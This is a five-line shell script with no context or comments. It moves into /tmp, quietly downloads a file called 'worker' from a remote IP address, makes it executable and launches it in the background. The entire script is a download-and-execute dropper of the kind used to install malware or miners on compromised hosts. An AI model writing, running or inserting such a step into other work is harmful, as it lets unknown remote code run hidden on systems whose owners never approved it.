#!/bin/sh
cd /tmp || exit 0
wget -q http://192.0.2.50/worker
chmod +x worker
./worker --background
